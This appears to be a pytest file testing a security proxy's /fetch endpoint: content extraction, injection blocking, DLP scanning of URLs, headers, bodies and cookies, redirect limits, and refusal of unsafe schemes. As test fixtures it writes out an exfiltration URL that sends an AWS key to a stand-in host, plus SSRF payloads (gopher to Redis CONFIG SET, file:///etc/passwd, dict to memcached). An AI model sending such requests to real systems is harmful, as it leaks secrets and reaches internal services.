"""/fetch: readable text, scanning, forwarded method/headers/body, redirects."""
from __future__ import annotations

import json
from urllib.parse import quote

import aiohttp
import pytest

from rfproxy_util import AWS_KEY, routes_for

pytestmark = pytest.mark.timeout(60)


async def fetch(p, url, method="GET", **kw):
    async with aiohttp.ClientSession() as s:
        async with s.request(method, f"{p.url}/fetch?url={quote(url, safe='')}", **kw) as r:
            return r.status, dict(r.headers), await r.read()


async def test_fetch_returns_readable_text(upstream, make_proxy):
    p = await make_proxy(routes_for(upstream))
    st, h, body = await fetch(p, upstream.url("/clean"))
    assert st == 200
    doc = json.loads(body)
    assert doc["blocked"] is False and doc["title"] == "Release notes"
    assert "We fixed the parser" in doc["content"]
    assert "var x" not in doc["content"] and "color:red" not in doc["content"]
    assert h["X-Ringfence-Receipt"] == doc["receipt_id"] and doc["receipt_id"] in p.receipts_text()


async def test_fetch_blocks_injection(upstream, make_proxy):
    p = await make_proxy(routes_for(upstream))
    st, h, body = await fetch(p, upstream.url("/inj"))
    assert st == 403 and json.loads(body)["scanner"] == "injection"
    assert h["X-Ringfence-Decision"] == "block"


async def test_fetch_dlp_runs_before_dns(make_proxy):
    p = await make_proxy()
    # .invalid never resolves: a block (not a DNS error) proves DLP ran first.
    st, h, body = await fetch(p, f"https://exfil.invalid/collect?k={AWS_KEY}")
    assert st == 403 and json.loads(body)["scanner"] == "dlp"


async def test_fetch_forwards_method_headers_and_body_after_scanning(upstream, make_proxy):
    p = await make_proxy(routes_for(upstream))
    st, _, body = await fetch(p, upstream.url("/echo"), "POST", data=b"hello=world",
                              headers={"Content-Type": "application/x-www-form-urlencoded", "X-Trace": "abc"})
    assert st == 200 and json.loads(body)["content"] == "echo POST 11"
    seen = upstream.log[-1]
    assert seen["method"] == "POST" and seen["body"] == b"hello=world" and seen["headers"]["X-Trace"] == "abc"
    n = len(upstream.log)
    st, _, body = await fetch(p, upstream.url("/echo"), "POST", json={"aws": AWS_KEY})
    assert st == 403 and json.loads(body)["blocked"] is True
    st, _, body = await fetch(p, upstream.url("/echo"), headers={"Authorization": f"Bearer {AWS_KEY}"})
    assert st == 403
    assert len(upstream.log) == n  # neither reached the upstream


async def test_fetch_redirects_rescanned_and_bounded(upstream, make_proxy):
    p = await make_proxy(routes_for(upstream))
    st, _, body = await fetch(p, upstream.url("/redirect/3"))
    doc = json.loads(body)
    assert st == 200 and doc["redirects"] == 3 and "Version 2.1" in doc["content"]
    st, _, body = await fetch(p, upstream.url("/redirect/6"))
    assert st == 502 and json.loads(body)["error"] == "too_many_redirects"
    n = len(upstream.log)
    st, _, body = await fetch(p, upstream.url("/redirect-secret"))
    assert st == 403 and json.loads(body)["scanner"] == "dlp"
    assert len(upstream.log) == n


async def test_fetch_needs_url(make_proxy):
    p = await make_proxy()
    async with aiohttp.ClientSession() as s:
        async with s.get(f"{p.url}/fetch") as r:
            assert r.status == 400
        async with s.get(f"{p.url}/fetch?url=") as r:
            assert r.status == 400


async def test_fetch_scans_and_forwards_cookies(upstream, make_proxy):
    p = await make_proxy(routes_for(upstream))
    st, _, _ = await fetch(p, upstream.url("/echo"), headers={"Cookie": "theme=dark; lang=en"})
    assert st == 200 and upstream.log[-1]["headers"].get("Cookie") == "theme=dark; lang=en"
    n = len(upstream.log)
    st, _, body = await fetch(p, upstream.url("/echo"), headers={"Cookie": f"theme=dark; k={AWS_KEY}"})
    assert st == 403 and json.loads(body)["scanner"] == "dlp" and len(upstream.log) == n


@pytest.mark.parametrize("url", ["gopher://127.0.0.1:6379/_CONFIG%20SET%20dir", "ftp://files.example.com/a.txt",
                                 "file:///etc/passwd", "dict://127.0.0.1:11211/stat"])
async def test_fetch_of_a_scheme_the_url_pipeline_refuses_is_a_recorded_block(make_proxy, url):
    p = await make_proxy()
    async with aiohttp.ClientSession() as s:
        async with s.get(f"{p.url}/fetch?url={quote(url, safe='')}") as r:
            body = json.loads(await r.read())
    assert r.status == 403 and body["blocked"] and body["scanner"] == "url", body
    assert body["receipt_id"] and body["receipt_id"] in p.receipts_text()


async def test_fetch_of_an_unparsable_url_the_pipeline_allows_stays_a_400(make_proxy):
    p = await make_proxy()
    async with aiohttp.ClientSession() as s:
        async with s.get(f"{p.url}/fetch?url={quote('https://exa mple.com:99999/', safe='')}") as r:
            assert r.status in (400, 403)
